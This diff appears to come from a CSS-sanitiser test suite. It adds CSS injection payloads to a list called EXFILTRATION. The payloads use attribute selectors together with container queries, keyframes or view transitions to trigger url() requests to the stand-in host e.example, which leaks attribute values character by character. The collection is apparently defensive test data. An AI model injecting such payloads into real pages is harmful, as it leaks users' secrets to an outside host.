@@ -221,6 +221,10 @@ EXFILTRATION = [
     "§[x=a]{width:1px}@container(width:1px){b{c:url(//e.example)}}",
     *("@font-face{font-family:f;src:url(//e.example);§unicode-range:U+61}", "a{§b:src(attr(value))}"),
     "@scope(§[a=b]){c{d:url(//e.example)}}",
+    # A request that is prevented, or that a container query or a view transition starts by way of another rule.
+    *("§[x^=a] b{display:none}b{c:url(//e.example)}", "§[x^=a] b{background:none}b{background:url(//e.example)}"),
+    "§[x=a]{width:1px}@container(width:1px){b{animation:k}}@keyframes k{to{c:url(//e.example)}}",
+    "§[x=a]{view-transition-name:t}::view-transition-old(t){c:url(//e.example)}",
 ]
 # An attribute's value by way of attr(), with a query and a request.
 ATTRIBUTES: Final = [
